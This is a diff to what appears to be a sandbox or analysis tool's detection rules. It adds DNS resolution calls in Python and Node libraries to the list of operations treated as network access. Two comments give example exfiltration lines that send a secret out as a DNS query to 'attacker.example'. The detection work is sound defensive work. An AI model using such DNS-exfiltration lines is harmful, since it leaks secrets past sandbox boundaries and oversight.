@@ -62671,6 +62671,8 @@ var SOCKET_USE = ["connect", "connect_ex", "sendto"];
 var socketUse = (cls) => call(...SOCKET_USE.flatMap((m) => [`${cls}${RETURNED}.${m}`, `${cls}.${m}`]));
 var EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
 var HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
+var LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
+var DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
 var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
 var LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
 var withAsync = (prefix, ...paths) => paths.flatMap((p) => [p, p.replace(/[^.]+$/, `${prefix}$&`)]);
@@ -62785,6 +62787,14 @@ var DEFAULT_SPECS = [
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
   py("socket", { ...call("create_connection"), ...inert("socket"), ...socketUse("socket") }, "network"),
+  // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
+  py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
+  // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
+  py("dns.resolver", { ...call("resolve", "query", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
+  py("dns.asyncresolver", { ...call("resolve", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
+  py("dns.query", call("udp", "tcp", "tls", "https", "quic", "udp_with_fallback", "xfr", "inbound_xfr"), "network"),
+  py("aiodns", client("DNSResolver"), "network"),
+  py("pycares", client("Channel"), "network"),
   py("websockets", call("connect", "client.connect", "sync.client.connect", "asyncio.client.connect"), "network"),
   // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
   py("pycurl", client("Curl", "CurlMulti"), "network"),
@@ -62873,6 +62883,9 @@ var DEFAULT_SPECS = [
   js("http2", call("connect"), "network", "call"),
   js("net", call("connect", "createConnection"), "network", "call"),
   js("tls", call("connect"), "network", "call"),
+  // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
+  js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
+  js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
   // A UDP socket crosses when it sends a datagram or connects to a peer, not when it is made (as Python's socket).
   js("tcp_wrap", client("TCP"), "network", "new"),
   js("pipe_wrap", client("Pipe"), "network", "new"),
